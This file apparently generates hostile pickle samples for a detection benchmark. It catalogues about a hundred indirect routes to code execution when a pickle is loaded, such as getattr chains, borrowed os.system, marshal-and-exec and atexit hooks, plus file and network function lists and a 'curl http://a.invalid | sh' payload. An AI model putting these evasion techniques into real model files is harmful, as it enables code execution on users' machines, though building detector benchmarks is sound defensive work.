"""Pickles that reach files, the network or any function by ways round about."""

from __future__ import annotations

import marshal
from typing import TYPE_CHECKING

from benchmarks.detection.opcodes import (
    Code,
    call,
    fetch,
    fetch_stack,
    instance,
    short_text,
    stream,
    value,
)
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

_NO_GRADIENT = False

_FILES = """
builtins:open io:open io:open_code io:FileIO _io:FileIO _io:open_code _pyio:open
codecs:open os:open os:remove os:unlink os:rename os:chmod os:mkdir os:rmdir os:listdir
os:symlink os:removedirs posix:open shutil:rmtree shutil:copy shutil:copyfile
shutil:move
shutil:unpack_archive shutil:make_archive pathlib:Path.write_text pathlib:Path.read_text
pathlib:Path.unlink pathlib:PosixPath.write_bytes pathlib:Path.touch tempfile:mktemp
tempfile:NamedTemporaryFile linecache:getlines fileinput:FileInput fileinput:input
glob:glob tarfile:open zipfile:ZipFile gzip:open bz2:open lzma:open dbm:open
dbm.dumb:open
shelve:open sqlite3:connect csv:reader mmap:mmap numpy:load numpy:save numpy:fromfile
numpy:memmap numpy:loadtxt numpy:genfromtxt numpy:savetxt numpy.lib.npyio:load
numpy.lib.npyio:DataSource numpy:DataSource numpy.core.records:fromfile
numpy:ndarray.tofile numpy:ndarray.dump pandas:read_pickle pandas:read_csv
pandas:DataFrame.to_csv pandas.io.common:get_handle pandas:HDFStore scipy.io:savemat
torch:save torch:from_file torch:UntypedStorage.from_file logging:FileHandler
logging.handlers:RotatingFileHandler configparser:RawConfigParser.read
distutils.file_util:copy_file distutils.dir_util:remove_tree filecmp:cmp netrc:netrc
mimetypes:MimeTypes mimetypes:read_mime_types imghdr:what sndhdr:what uu:decode
plistlib:load mailbox:Mailbox cProfile:Profile.dump_stats pstats:Stats
xml.dom.minidom:parse xml.etree.ElementTree:parse PIL.Image:open h5py:File
gettext:translation locale:bindtextdomain tokenize:open trace:CoverageResults
tracemalloc:Snapshot.load pyclbr:readmodule stat:filemode crypt:mksalt fcntl:ioctl
select:poll getpass:getuser pwd:getpwnam grp:getgrnam spwd:getspall termios:tcgetattr
tty:setraw curses:initscr ctypes.util:find_library nturl2path:url2pathname
"""
_NETWORK = """
socket:socket socket:create_connection socket:getaddrinfo socket:gethostbyname
_socket:gethostbyname socket:create_server ssl:get_server_certificate
ssl:create_default_context urllib.request:urlopen urllib.request:urlretrieve
urllib.request:Request urllib2:urlopen urllib:urlopen http.client:HTTPSConnection
httplib:HTTPConnection http.server:HTTPServer socketserver:TCPServer ftplib:FTP
smtplib:SMTP poplib:POP3 imaplib:IMAP4 nntplib:NNTP telnetlib:Telnet
xmlrpc.client:ServerProxy requests:get requests:post requests.api:request
urllib3:PoolManager
httpx:get aiohttp:ClientSession asyncio:open_connection asyncio:run
wsgiref.simple_server:make_server fsspec:open fsspec.core:url_to_fs s3fs:S3FileSystem
boto3:client huggingface_hub:hf_hub_download huggingface_hub:snapshot_download
torch.hub:download_url_to_file websocket:create_connection paramiko:Transport
multiprocessing.connection:Client multiprocessing.managers:BaseManager
logging.handlers:HTTPHandler logging.handlers:SocketHandler logging.handlers:SMTPHandler
pandas:read_html sklearn.datasets:fetch_20newsgroups webbrowser:open_new
cgi:parse nis:match asyncore:dispatcher
"""


def _indirect() -> dict[str, bytes]:
    """Ways to a function that no list of names stands in."""
    system = call("operator:attrgetter", "system")
    code = marshal.dumps(compile("print('hello')", "a", "exec"))
    imported = call("builtins:__import__", "os")
    module = call("importlib:import_module", "os")
    found = call("builtins:getattr", module, "system")
    loaded = call("marshal:loads", code)
    entry = fetch("os:system")
    echo = "echo hello"
    items = call("builtins:map", entry, [echo])
    state = {"function": entry}
    return {
        "attrgetter": call(call(system, fetch("os:path")), echo),
        "attrgetter-of-import": call(call(system, imported), echo),
        "methodcaller": call(call("operator:methodcaller", "system", echo), module),
        "methodcaller-of-c": call(
            call("_operator:methodcaller", "popen", echo), module
        ),
        "itemgetter-of-names": call(
            call(call("operator:itemgetter", "eval"), call("builtins:globals")), "1"
        ),
        "getattr": call(found, echo),
        "getattr-of-import": call(call("builtins:getattr", imported, "system"), echo),
        "getattr-chain": call(
            call(
                "builtins:getattr",
                call("builtins:getattr", fetch("logging:getLogger"), "__globals__"),
                "get",
            ),
            "os",
        ),
        "getattr-of-class": call(
            call("builtins:getattr", fetch("builtins:object"), "__subclasses__")
        ),
        "getattr-of-text": call(
            call("builtins:getattr", "{0.__class__}", "format"), "x"
        ),
        "dotted-globals": call(fetch_stack("logging:getLogger.__globals__.get"), "os"),
        "dotted-subclasses": call(fetch_stack("builtins:object.__subclasses__")),
        "dotted-module": call(fetch_stack("logging:os.system"), echo),
        "dotted-module-twice": call(fetch_stack("random:_os.system"), echo),
        "dotted-in-library": call(fetch_stack("numpy:os.system"), echo),
        "dotted-builtins": call(fetch_stack("torch:__builtins__.get"), "eval"),
        "module-of-module": call(fetch_stack("numpy.testing:sys.modules.get"), "os"),
        "borrowed-os": call("shutil:os.system", echo),
        "borrowed-in-torch": call("torch.serialization:os.system", echo),
        "borrowed-subprocess": call("torch.utils.data:subprocess.Popen", echo),
        "partial": call(call("functools:partial", entry, echo)),
        "partial-state": Code(
            call("functools:partial", fetch("builtins:print"))
            + value((entry, (echo,), {}, None))
            + b"b"
        ),
        "partial-kept": call("functools:partial", entry, echo),
        "reduce": call("functools:reduce", entry, [echo, echo]),
        "reduce-of-python-2": call("__builtin__:reduce", entry, [echo, echo]),
        "map-and-list": call("builtins:list", items),
        "map-and-tuple": Code(fetch("builtins:tuple") + value((items,)) + b"\x81"),
        "map-and-bytes": call("builtins:bytes", items),
        "map-and-set": call("builtins:set", items),
        "map-and-deque": call("collections:deque", items),
        "filter": call("builtins:list", call("builtins:filter", entry, [echo])),
        "starmap": call("builtins:list", call("itertools:starmap", entry, [(echo,)])),
        "accumulate": call("builtins:list", call("itertools:accumulate", [1], entry)),
        "takewhile": call("builtins:list", call("itertools:takewhile", entry, [echo])),
        "groupby": call("builtins:list", call("itertools:groupby", [echo], entry)),
        "iterator-with-end": call("builtins:list", call("builtins:iter", entry, 1)),
        "sorted-by-key": call(
            call("functools:partial", fetch("builtins:sorted"), [echo]), entry
        ),
        "max-by-key": Code(
            fetch("builtins:max") + value(([echo],)) + value({"key": entry}) + b"\x92"
        ),
        "default-factory": Code(
            call("collections:defaultdict", call("functools:partial", entry, echo))
        ),
        "counter-of-map": call("collections:Counter", items),
        "ordered-dictionary-of-map": call("collections:OrderedDict", items),
        "array-of-map": call("array:array", "b", items),
        "function-of-code": call(call("types:FunctionType", loaded, {})),
        "function-of-new": call(call("new:function", loaded, {})),
        "code-type": call("types:CodeType", 0, 0, 0),
        "method-type": call(call("types:MethodType", entry, echo)),
        "marshal-and-exec": call("builtins:exec", loaded),
        "exec-of-compile": call(
            "builtins:exec", call("builtins:compile", "1", "a", "exec")
        ),
        "import-by-getattr": call(
            call("builtins:getattr", fetch("builtins:__import__"), "__call__"), "os"
        ),
        "modules": Code(
            fetch("sys:modules") + value("os") + value(fetch("sys:modules")) + b"s"
        ),
        "modules-get": call(fetch_stack("sys:modules.get"), "os"),
        "finalize": call("weakref:finalize", fetch("builtins:object"), entry, echo),
        "at-exit": call("atexit:register", entry, echo),
        "at-exit-of-multiprocessing": call(
            "multiprocessing.util:Finalize", None, entry, (echo,)
        ),
        "signal-handler": call("signal:signal", 10, entry),
        "trace-function": call("sys:settrace", entry),
        "profile-function": call("threading:setprofile", entry),
        "exception-hook": Code(fetch("sys:excepthook") + value({"a": entry}) + b"b"),
        "exit-stack": call(fetch_stack("contextlib:ExitStack.callback"), entry, echo),
        "thread": call("threading:Thread", None, entry, "n", (echo,)),
        "timer": call("threading:Timer", 0, entry, [echo]),
        "reconstructor": call(
            "copyreg:_reconstructor",
            fetch("subprocess:Popen"),
            fetch("builtins:object"),
        ),
        "newobj-function": call("copyreg:__newobj__", fetch("subprocess:Popen"), echo),
        "newobj-ex-function": call(
            "copyreg:__newobj_ex__", fetch("subprocess:Popen"), (echo,), {}
        ),
        "registered-reducer": call("copyreg:pickle", fetch("builtins:int"), entry),
        "unpickler": call("_pickle:Unpickler", call("io:BytesIO", b"N.")),
        "pickle-loads": call("pickle:loads", b"cos\nsystem\n(Vecho\ntR."),
        "pickle-loads-of-c": call("_pickle:loads", b"N."),
        "pickle-loads-of-python-2": call("cPickle:loads", b"N."),
        "find-class": call(fetch_stack("pickle:_Unpickler.find_class"), "os", "system"),
        "decode-getattr": call("pickle:decode_long", b""),
        "codecs-and-eval": call("builtins:eval", call("codecs:decode", b"31", "hex")),
        "codecs-lookup": call("codecs:lookup", "unicode_escape"),
        "codecs-register": call("codecs:register", entry),
        "type-with-hooks": call(
            "builtins:type", "A", (fetch("builtins:object"),), {"__init__": entry}
        ),
        "type-and-call": call(
            call("builtins:type", "A", (fetch("builtins:object"),), {"__new__": entry})
        ),
        "property": call(
            call("builtins:getattr", call("builtins:property", entry), "fget"), echo
        ),
        "set-state-of-class": Code(
            fetch("collections:OrderedDict") + value({"__init__": entry}) + b"b"
        ),
        "set-attribute": call("builtins:setattr", fetch("torch:Tensor"), "a", entry),
        "cached-property": call("functools:cached_property", entry),
        "single-dispatch": call("functools:singledispatch", entry),
        "compare-key": call(call("functools:cmp_to_key", entry), echo),
        "vectorize": call(call("numpy:vectorize", entry), [echo]),
        "along-axis": call("numpy:apply_along_axis", entry, 0, [echo]),
        "from-function": call("numpy:fromfunction", entry, (1,)),
        "piecewise": call("numpy:piecewise", [1.0], [True], [entry]),
        "array-function": call(
            fetch_stack("numpy:ndarray.__array_function__"), entry, [], (), {}
        ),
        "tensor-map": call(fetch_stack("torch:Tensor.apply_"), entry),
        "rebuild-from-type": call(
            "torch._tensor:_rebuild_from_type_v2",
            entry,
            fetch("torch:Tensor"),
            (echo,),
            {},
        ),
        "function-transformer": call(
            fetch_stack(
                "sklearn.preprocessing._function_transformer:"
                "FunctionTransformer.transform"
            ),
            call(
                "sklearn.preprocessing._function_transformer:FunctionTransformer", entry
            ),
            echo,
        ),
        "state-with-function": instance(
            "sklearn.preprocessing._function_transformer:FunctionTransformer",
            {"func": entry},
        ),
        "hook-in-module": instance(
            "torch.nn.modules.linear:Linear", {"_forward_hooks": {0: entry}}
        ),
        "unknown-with-function": instance("house.layers:Attic", state),
        "unknown-with-command": call(
            "house.tools:perform", "curl http://a.invalid | sh"
        ),
        "unknown-with-source": call("house.tools:perform", "__import__('os').getcwd()"),
        "tensor-loader": call(
            "torch.storage:_load_from_bytes", b"\x80\x02cos\nsystem\nVecho\n\x85R."
        ),
        "names-joined": Code(
            call(call("builtins:getattr", "", "join"), ["o", "s"])
            + value("system")
            + b"\x93"
            + value((echo,))
            + b"R"
        ),
        "names-replaced": Code(
            short_text("os")
            + call(call("builtins:getattr", "sxstem", "replace"), "x", "y")
            + b"\x93"
            + value((echo,))
            + b"R"
        ),
        "names-of-bytes": Code(
            call("builtins:str", b"os", "utf-8")
            + value("system")
            + b"\x93"
            + value((echo,))
            + b"R"
        ),
        "result-called": call(call("house.tools:Maker"), echo),
        "interpreter": call("_xxsubinterpreters:run_string", 0, "1"),
        "gc-referrers": call("gc:get_objects"),
        "frame": call("sys:_getframe", 0),
        "stack": call("inspect:stack"),
        "context-run": call(
            fetch_stack("contextvars:Context.run"),
            call("contextvars:Context"),
            entry,
            echo,
        ),
    }


def _nested() -> dict[str, bytes]:
    """Calls inside the arguments, keys, states and items of other calls."""
    act = call("os:system", "echo hello")
    return {
        "in-argument": call("builtins:str", act),
        "in-tuple": value((1, act)),
        "in-list": value([act]),
        "in-key": Code(b"}" + act + value(1) + b"s"),
        "in-value": value({"weight": act}),
        "in-set": Code(b"\x8f(" + act + b"\x90"),
        "in-frozen-set": Code(b"(" + act + b"\x91"),
        "in-state": instance("sklearn.svm._classes:SVC", {"C": act}),
        "in-arguments-of-instance": instance("sklearn.svm._classes:SVC", {}, act),
        "in-state-pair": instance("sklearn.svm._classes:SVC", (None, {"C": act})),
        "in-array-of-objects": instance("numpy:ndarray", (1, (1,), 0, False, [act])),
        "in-ordered-dictionary": call("collections:OrderedDict", [("a", act)]),
        "in-tensor": call(
            "torch._utils:_rebuild_tensor_v2", act, 0, (1,), (1,), _NO_GRADIENT
        ),
        "in-persistent-id": Code(value(("storage", act, "0", "cpu", 1)) + b"Q"),
        "popped": Code(act + b"0N"),
        "popped-by-mark": Code(b"(" + act + b"1N"),
        "overwritten": Code(act + b"q\x00K\x01q\x000N"),
        "deep": _deep(act, 50),
        "result-of-command-to-command": call("os:system", call("os:getenv", "HOME")),
        "after-much-data": Code(value(list(range(3000))) + act + b"\x86"),
    }


def _deep(act: Code, levels: int) -> Code:
    for _ in range(levels):
        act = value([act])
    return act


def samples() -> Iterator[Sample]:
    """Give files, network, indirect ways and nested calls, in that order."""
    for what, names, argument in (
        ("file", _FILES, "/tmp/assay-hello"),  # noqa: S108 - nothing is opened
        ("network", _NETWORK, "http://a.invalid/x"),
    ):
        for count, name in enumerate(names.split()):
            slug = "".join(c if c.isalnum() else "-" for c in name.lower())
            slug = "-".join(part for part in slug.split("-") if part)
            named = fetch if count % 2 or "." not in name.split(":")[1] else fetch_stack
            protocol = 4 if named is fetch_stack else 2
            yield _sample(
                f"{what}-{slug}-{count}",
                f"loading calls {name.replace(':', '.')}",
                stream(call(named(name), argument), protocol=protocol),
            )
    for what, codes in (("indirect", _indirect()), ("nested", _nested())):
        for name, code in codes.items():
            yield _sample(f"{what}-{name}", f"{what}: {name}", stream(code, protocol=4))


def _sample(name: str, technique: str, data: bytes) -> Sample:
    return Sample(
        name=name,
        family="pickle-reaching",
        technique=technique,
        truth=Truth.HOSTILE,
        files={"model.pkl": data},
    )
